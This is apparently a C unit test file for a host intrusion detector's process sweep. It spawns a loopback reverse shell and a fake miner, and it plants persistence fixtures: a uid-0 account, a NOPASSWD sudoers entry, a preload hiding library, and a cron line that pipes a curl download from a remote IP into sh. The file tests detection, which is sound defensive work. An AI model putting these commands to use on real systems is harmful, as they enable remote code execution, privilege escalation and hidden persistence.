/* Unit tests for scan/process/sweep, end to end on real processes started
 * here: a bash whose stdin, stdout and stderr are a TCP connection to a
 * listener of this test (reverse shell, urgent); a sh whose command line
 * carries a stratum URL and miner options (miner, urgent); a process
 * connected to a port configured as a pool port (miner, urgent); copies of
 * sleep run from a temporary directory, deleted afterwards, and from a
 * memfd (suspicious); an allowlisted one (nothing). Then: the evidence
 * and remediation of each; ld.so.preload entries from a configured file;
 * "remember" not raising the same alerts twice; psweep_check_pid on one
 * process; the kill response with its allowlist; new persistence in a
 * --root copy of tests/fixtures/process/root; a new listening port. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "pstest.h"
#include "scan/process/sweep.h"

static char tmp[] = "/tmp/vigil-sweep-XXXXXX";
static char state_dir[512];

typedef struct alerts {
        alert_t *v[1024];
        size_t n;
} alerts_t;

static int collect(alert_t *a, void *userdata)
{
        alerts_t *as = userdata;
        if (as->n < 1024)
                as->v[as->n++] = a;
        else
                alert_free(a);
        return 0;
}

static void alerts_clear(alerts_t *as)
{
        for (size_t i = 0; i < as->n; i++)
                alert_free(as->v[i]);
        as->n = 0;
}

static long long ev_int(const alert_t *a, const char *key)
{
        json_t *j = json_object_get(a->evidence, key);
        return json_is_integer(j) ? json_integer_value(j) : -1;
}

static const char *ev_str(const alert_t *a, const char *key)
{
        json_t *j = json_object_get(a->evidence, key);
        return json_is_string(j) ? json_string_value(j) : NULL;
}

/* The alerts about PID (all rules). */
static size_t for_pid(const alerts_t *as, pid_t pid, const alert_t **ret, size_t cap)
{
        size_t n = 0;
        for (size_t i = 0; i < as->n; i++)
                if (ev_int(as->v[i], "pid") == pid && n < cap)
                        ret[n++] = as->v[i];
        return n;
}

static const alert_t *by_rule(const alerts_t *as, const char *rule, pid_t pid)
{
        for (size_t i = 0; i < as->n; i++)
                if (strcmp(as->v[i]->rule, rule) == 0 &&
                    (pid <= 0 || ev_int(as->v[i], "pid") == pid))
                        return as->v[i];
        return NULL;
}

static int listener(uint16_t *ret_port)
{
        struct sockaddr_in sa = { .sin_family = AF_INET,
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        socklen_t sl = sizeof(sa);
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

        assert_true(fd >= 0);
        assert_int_equal(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
        assert_int_equal(listen(fd, 8), 0);
        assert_int_equal(getsockname(fd, (struct sockaddr *)&sa, &sl), 0);
        *ret_port = ntohs(sa.sin_port);
        return fd;
}

static int connect_to(uint16_t port)
{
        struct sockaddr_in sa = { .sin_family = AF_INET,
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
                                  .sin_port = htons(port) };
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
                return -1;
        return fd;
}

/* A bash with its standard streams on a connection to PORT. */
static pid_t spawn_reverse_shell(uint16_t port)
{
        pid_t pid = fork();
        if (pid == 0) {
                int s;
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                s = connect_to(port);
                if (s < 0)
                        _exit(127);
                dup2(s, 0);
                dup2(s, 1);
                dup2(s, 2);
                close(s);
                execl("/bin/bash", "bash", (char *)NULL);
                _exit(127);
        }
        return pid;
}

/* A child of this test connected to PORT, doing nothing. */
static pid_t spawn_connected(uint16_t port)
{
        pid_t pid = fork();
        if (pid == 0) {
                prctl(PR_SET_PDEATHSIG, SIGKILL);
                if (connect_to(port) < 0)
                        _exit(127);
                for (;;)
                        pause();
        }
        return pid;
}

/* Wait until PID holds a socket on fd 0 (or another fd when FD >= 0). */
static void wait_socket(pid_t pid, int fd)
{
        for (int i = 0; i < 20000; i++) {
                char path[64], link[64];
                ssize_t n;
                snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fd);
                n = readlink(path, link, sizeof(link) - 1);
                if (n > 0 && (link[n] = 0, strncmp(link, "socket:", 7) == 0))
                        return;
                usleep(1000);
        }
        fail_msg("pid %d never held a socket on fd %d", (int)pid, fd);
}

static config_t *config_from(const char *fmt, ...) _printf_(1, 2);
static config_t *config_from(const char *fmt, ...)
{
        char path[600], text[4096];
        config_t *c = NULL;
        char *err = NULL;
        va_list ap;
        FILE *f;

        va_start(ap, fmt);
        vsnprintf(text, sizeof(text), fmt, ap);
        va_end(ap);
        snprintf(path, sizeof(path), "%s/vigil.yml", tmp);
        f = fopen(path, "we");
        assert_non_null(f);
        fputs(text, f);
        fclose(f);
        assert_int_equal(config_load(path, true, &c, &err), 0);
        return c;
}

static int setup(void **state)
{
        (void)state;
        if (!mkdtemp(tmp))
                return -1;
        snprintf(state_dir, sizeof(state_dir), "%s/state", tmp);
        return 0;
}

static int teardown(void **state)
{
        char cmd[600];
        (void)state;
        snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmp);
        return system(cmd) == 0 ? 0 : -1;
}

static void test_processes(void **state)
{
        rootfs_t *root = NULL;
        alerts_t as = { .n = 0 };
        psweep_t *s = NULL;
        psweep_stats_t st;
        uint16_t rs_port, pool_port;
        int rs_lfd, pool_lfd, acc1, acc2;
        pid_t rshell, miner, pooled, gone, intmp, memfd, allowed;
        char gone_path[600], tmp_path[600], allowed_path[600], preload[600];
        char *sleep_argv[] = { "sleep", "600", NULL };
        char *miner_argv[] = { "sh",
                               "-c",
                               "sleep 600; :",
                               "sh",
                               "-o",
                               "stratum+tcp:/"
                               "/127.0.0.1:3333",
                               "-u",
                               "wallet",
                               "--donate-level",
                               "1",
                               NULL };
        const alert_t *a, *mine[8];
        config_t *cfg;
        report_t *rep = report_new("testhost", "/");

        (void)state;
        rs_lfd = listener(&rs_port);
        pool_lfd = listener(&pool_port);
        snprintf(preload, sizeof(preload), "%s/ld.so.preload", tmp);
        {
                FILE *f = fopen(preload, "we");
                fputs("/usr/lib/libgood.so\n/dev/shm/.libhide.so\n", f);
                fclose(f);
        }
        /* Only this test's directory counts as temporary, so where the
         * test binary itself lives does not matter. */
        cfg = config_from("process:\n"
                          "  tmp_dirs: [%s]\n"
                          "  allowlist: [allowedbin]\n"
                          "  miner: {yara: false, pool_ports: [%u]}\n"
                          "  hidden: {enabled: false}\n"
                          "  listening_ports: false\n"
                          "  ld_preload_file: %s\n"
                          "  ld_preload_allow: [/usr/lib/libgood.so]\n",
                          tmp, pool_port, preload);

        rshell = spawn_reverse_shell(rs_port);
        acc1 = accept(rs_lfd, NULL, NULL);
        assert_true(acc1 >= 0);
        wait_socket(rshell, 0);
        assert_true(pstest_wait_exe(rshell, "bash"));
        miner = pstest_spawn("/bin/sh", miner_argv);
        pooled = spawn_connected(pool_port);
        acc2 = accept(pool_lfd, NULL, NULL);
        assert_true(acc2 >= 0);
        wait_socket(pooled, 3);
        snprintf(gone_path, sizeof(gone_path), "%s/gone", tmp);
        snprintf(tmp_path, sizeof(tmp_path), "%s/intmp", tmp);
        snprintf(allowed_path, sizeof(allowed_path), "%s/allowedbin", tmp);
        assert_int_equal(pstest_copy("/bin/sleep", gone_path, 0755), 0);
        assert_int_equal(pstest_copy("/bin/sleep", tmp_path, 0755), 0);
        assert_int_equal(pstest_copy("/bin/sleep", allowed_path, 0755), 0);
        gone = pstest_spawn(gone_path, sleep_argv);
        intmp = pstest_spawn(tmp_path, sleep_argv);
        allowed = pstest_spawn(allowed_path, sleep_argv);
        memfd = pstest_spawn_memfd("vigil-sweep");
        assert_true(pstest_wait_exe(gone, "/gone"));
        assert_true(pstest_wait_exe(intmp, "/intmp"));
        assert_true(pstest_wait_exe(allowed, "/allowedbin"));
        assert_true(pstest_wait_exe(memfd, "memfd:vigil-sweep"));
        assert_true(pstest_wait_exe(miner, "sh") || pstest_wait_exe(miner, "dash"));
        assert_int_equal(unlink(gone_path), 0);

        assert_int_equal(rootfs_open("/", &root), 0);
        {
                psweep_opts_t o = { .root = root,
                                    .config = cfg,
                                    .host = "testhost",
                                    .probe_window = 0,
                                    .remember = true };
                assert_int_equal(psweep_new(&o, rep, &s), 0);
        }
        assert_int_equal(psweep_run(s, rep, collect, &as, &st), 0);
        assert_true(st.processes > 5);

        /* reverse shell */
        assert_int_equal(for_pid(&as, rshell, mine, 8), 1);
        a = mine[0];
        assert_string_equal(a->rule, "process.reverse_shell");
        assert_int_equal(a->level, ALERT_URGENT);
        assert_int_equal(a->type, ALERT_ABNORMAL_PROCESS);
        assert_string_equal(a->host, "testhost");
        assert_string_equal(ev_str(a, "interpreter"), "bash");
        assert_string_equal(ev_str(a, "fds"), "0,1,2");
        assert_string_equal(ev_str(a, "direction"), "outbound");
        assert_string_equal(ev_str(a, "remote_addr"), "127.0.0.1");
        assert_int_equal(ev_int(a, "remote_port"), rs_port);
        assert_int_equal(ev_int(a, "ppid"), getpid());
        assert_int_equal(ev_int(a, "uid"), (long long)getuid());
        assert_string_equal(ev_str(a, "comm"), "bash");
        assert_non_null(strstr(a->remediation, "kill -9"));
        assert_non_null(ev_str(a, "started"));

        /* miner by its command line */
        assert_int_equal(for_pid(&as, miner, mine, 8), 1);
        a = mine[0];
        assert_string_equal(a->rule, "process.miner");
        assert_int_equal(a->level, ALERT_URGENT);
        assert_non_null(strstr(ev_str(a, "cmdline"), "--donate-level 1"));
        {
                json_t *r = json_object_get(a->evidence, "reasons");
                assert_true(json_is_array(r) && json_array_size(r) >= 2);
        }

        /* miner by its connection to a pool port */
        assert_int_equal(for_pid(&as, pooled, mine, 8), 1);
        a = mine[0];
        assert_string_equal(a->rule, "process.miner");
        assert_int_equal(ev_int(a, "remote_port"), pool_port);
        assert_string_equal(ev_str(a, "tcp_state"), "established");

        /* binaries */
        assert_int_equal(for_pid(&as, gone, mine, 8), 1);
        assert_string_equal(mine[0]->rule, "process.deleted_binary");
        assert_int_equal(mine[0]->level, ALERT_SUSPICIOUS);
        assert_string_equal(ev_str(mine[0], "exe"), gone_path);
        assert_true(json_is_true(json_object_get(mine[0]->evidence, "deleted")));
        assert_true(json_is_true(json_object_get(mine[0]->evidence, "temporary_directory")));
        assert_int_equal(for_pid(&as, intmp, mine, 8), 1);
        assert_string_equal(mine[0]->rule, "process.tmp_binary");
        assert_int_equal(mine[0]->level, ALERT_SUSPICIOUS);
        assert_int_equal(for_pid(&as, memfd, mine, 8), 1);
        assert_string_equal(mine[0]->rule, "process.deleted_binary");
        assert_true(json_is_true(json_object_get(mine[0]->evidence, "memfd")));
        assert_int_equal(for_pid(&as, allowed, mine, 8), 0);
        assert_true(st.suppressed >= 1);

        /* ld.so.preload: the allowed entry is not reported */
        a = by_rule(&as, "process.ld_preload", 0);
        assert_non_null(a);
        assert_int_equal(a->level, ALERT_URGENT);
        assert_string_equal(ev_str(a, "entry"), "/dev/shm/.libhide.so");
        assert_string_equal(ev_str(a, "file"), preload);
        assert_int_equal(ev_int(a, "position"), 2);
        {
                size_t n = 0;
                for (size_t i = 0; i < as.n; i++)
                        n += strcmp(as.v[i]->rule, "process.ld_preload") == 0;
                assert_int_equal(n, 1);
        }
        /* nothing about this process itself */
        assert_int_equal(for_pid(&as, getpid(), mine, 8), 0);

        /* remember: the same processes raise nothing the second time */
        alerts_clear(&as);
        assert_int_equal(psweep_run(s, rep, collect, &as, &st), 0);
        assert_int_equal(for_pid(&as, rshell, mine, 8), 0);
        assert_int_equal(for_pid(&as, miner, mine, 8), 0);
        assert_null(by_rule(&as, "process.ld_preload", 0));
        assert_true(st.suppressed >= 6);
        psweep_free(s);
        s = NULL;

        /* one process through psweep_check_pid, with a fresh sweep */
        alerts_clear(&as);
        {
                psweep_opts_t o = { .root = root, .config = cfg, .probe_window = 0 };
                assert_int_equal(psweep_new(&o, rep, &s), 0);
        }
        assert_int_equal(psweep_check_pid(s, rshell, rep, collect, &as), 0);
        assert_int_equal(as.n, 1);
        assert_string_equal(as.v[0]->rule, "process.reverse_shell");
        assert_int_equal(psweep_check_pid(s, pooled, rep, collect, &as), 0);
        assert_int_equal(as.n, 2);
        assert_string_equal(as.v[1]->rule, "process.miner");
        assert_int_equal(psweep_check_pid(s, getpid(), rep, collect, &as), 0);
        assert_int_equal(psweep_check_pid(s, 0, rep, collect, &as), 0);
        assert_int_equal(as.n, 2);
        psweep_free(s);
        s = NULL;
        config_free(cfg);

        /* the kill response: the miner dies, bash is on the response
         * allowlist, the deleted binary is only suspicious */
        alerts_clear(&as);
        cfg = config_from("process:\n"
                          "  tmp_dirs: [%s]\n"
                          "  miner: {yara: false, pool_ports: [%u]}\n"
                          "  hidden: {enabled: false}\n"
                          "  response: {kill: true, allowlist: [bash]}\n",
                          tmp, pool_port);
        {
                psweep_opts_t o = { .root = root, .config = cfg, .probe_window = 0 };
                assert_int_equal(psweep_new(&o, rep, &s), 0);
        }
        assert_int_equal(psweep_run(s, rep, collect, &as, &st), 0);
        a = by_rule(&as, "process.miner", miner);
        assert_non_null(a);
        assert_string_equal(ev_str(a, "response"), "killed");
        {
                int status;
                assert_int_equal(waitpid(miner, &status, 0), miner);
                assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
        }
        a = by_rule(&as, "process.reverse_shell", rshell);
        assert_non_null(a);
        assert_string_equal(ev_str(a, "response"), "allowlisted");
        assert_int_equal(kill(rshell, 0), 0);
        a = by_rule(&as, "process.deleted_binary", gone);
        assert_non_null(a);
        assert_null(ev_str(a, "response"));
        assert_int_equal(kill(gone, 0), 0);
        assert_true(st.killed >= 1);
        psweep_free(s);
        config_free(cfg);
        alerts_clear(&as);

        pstest_kill(rshell);
        pstest_kill(pooled);
        pstest_kill(gone);
        pstest_kill(intmp);
        pstest_kill(allowed);
        pstest_kill(memfd);
        close(acc1);
        close(acc2);
        close(rs_lfd);
        close(pool_lfd);
        rootfs_free(root);
        report_free(rep);
}

static void test_persistence_root(void **state)
{
        char root_copy[600], cmd[2048], path[700];
        rootfs_t *root = NULL;
        alerts_t as = { .n = 0 };
        psweep_t *s = NULL;
        report_t *rep = report_new("img", "img");
        psweep_opts_t o = { .state_dir = state_dir, .probe_window = 0 };
        const alert_t *a;
        FILE *f;

        (void)state;
        snprintf(root_copy, sizeof(root_copy), "%s/root", tmp);
        snprintf(cmd, sizeof(cmd), "cp -a '%s/process/root' '%s'", getenv("VIGIL_FIXTURES"),
                 root_copy);
        assert_int_equal(system(cmd), 0);
        assert_int_equal(rootfs_open(root_copy, &root), 0);
        o.root = root;
        assert_int_equal(psweep_new(&o, rep, &s), 0);
        assert_int_equal(psweep_run(s, rep, collect, &as, NULL), 0);
        assert_int_equal(as.n, 0); /* learnt */

        snprintf(path, sizeof(path), "%s/etc/passwd", root_copy);
        f = fopen(path, "ae");
        fputs("sysbackup:x:0:0::/root:/bin/bash\n", f);
        fclose(f);
        snprintf(path, sizeof(path), "%s/etc/sudoers.d/zz", root_copy);
        f = fopen(path, "we");
        fputs("www-data ALL=(ALL) NOPASSWD: ALL\n", f);
        fclose(f);
        snprintf(path, sizeof(path), "%s/var/spool/cron/crontabs/www-data", root_copy);
        f = fopen(path, "we");
        fputs("*/10 * * * * curl -fsSL http://203.0.113.7/x | sh\n", f);
        fclose(f);
        snprintf(path, sizeof(path), "%s/etc/systemd/system/kworkerd.service", root_copy);
        f = fopen(path, "we");
        fputs("[Service]\nExecStart=/usr/local/bin/kworkerd\n", f);
        fclose(f);
        /* an ld.so.preload in the image is checked too */
        snprintf(path, sizeof(path), "%s/etc/ld.so.preload", root_copy);
        f = fopen(path, "we");
        fputs("/usr/local/lib/libprocesshider.so\n", f);
        fclose(f);

        assert_int_equal(psweep_run(s, rep, collect, &as, NULL), 0);
        assert_int_equal(as.n, 5);
        a = by_rule(&as, "process.new_uid0_account", 0);
        assert_non_null(a);
        assert_int_equal(a->level, ALERT_SUSPICIOUS);
        assert_string_equal(ev_str(a, "user"), "sysbackup");
        assert_int_equal(ev_int(a, "line"), 7);
        snprintf(path, sizeof(path), "%s/etc/passwd", root_copy);
        assert_string_equal(ev_str(a, "file"), path);
        assert_non_null(strstr(a->remediation, "usermod -L"));
        a = by_rule(&as, "process.new_sudoers_entry", 0);
        assert_non_null(a);
        assert_string_equal(ev_str(a, "entry"), "www-data ALL=(ALL) NOPASSWD: ALL");
        a = by_rule(&as, "process.new_cron_job", 0);
        assert_non_null(a);
        assert_int_equal(a->level, ALERT_SUSPICIOUS);
        a = by_rule(&as, "process.new_systemd_unit", 0);
        assert_non_null(a);
        assert_string_equal(ev_str(a, "unit"), "kworkerd.service");
        a = by_rule(&as, "process.ld_preload", 0);
        assert_non_null(a);
        assert_false(json_is_true(json_object_get(a->evidence, "library_exists")));

        /* once */
        alerts_clear(&as);
        assert_int_equal(psweep_run(s, rep, collect, &as, NULL), 0);
        assert_int_equal(as.n, 1); /* ld.so.preload is a state, reported each sweep */
        alerts_clear(&as);
        psweep_free(s);
        rootfs_free(root);
        report_free(rep);
}

static void test_listening_port(void **state)
{
        char dir2[700];
        rootfs_t *root = NULL;
        alerts_t as = { .n = 0 };
        psweep_t *s = NULL;
        psweep_opts_t o = { .probe_window = 0 };
        config_t *cfg;
        uint16_t port;
        int lfd;
        bool found = false;

        (void)state;
        snprintf(dir2, sizeof(dir2), "%s/state2", tmp);
        o.state_dir = dir2;
        cfg = config_from("process:\n  miner: {yara: false}\n  hidden: {enabled: false}\n");
        o.config = cfg;
        assert_int_equal(rootfs_open("/", &root), 0);
        o.root = root;
        assert_int_equal(psweep_new(&o, NULL, &s), 0);
        assert_int_equal(psweep_run(s, NULL, collect, &as, NULL), 0);
        assert_null(by_rule(&as, "process.new_listening_port", 0));
        alerts_clear(&as);
        lfd = listener(&port);
        assert_int_equal(psweep_run(s, NULL, collect, &as, NULL), 0);
        for (size_t i = 0; i < as.n; i++) {
                const alert_t *a = as.v[i];
                if (strcmp(a->rule, "process.new_listening_port") == 0 &&
                    ev_int(a, "port") == port) {
                        found = true;
                        assert_int_equal(a->level, ALERT_REMINDER);
                        assert_int_equal(ev_int(a, "pid"), getpid());
                        assert_non_null(strstr(ev_str(a, "listen"), "127.0.0.1:"));
                }
        }
        assert_true(found);
        alerts_clear(&as);
        close(lfd);
        psweep_free(s);
        rootfs_free(root);
        config_free(cfg);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_processes),
                cmocka_unit_test(test_persistence_root),
                cmocka_unit_test(test_listening_port),
        };
        return cmocka_run_group_tests(tests, setup, teardown);
}
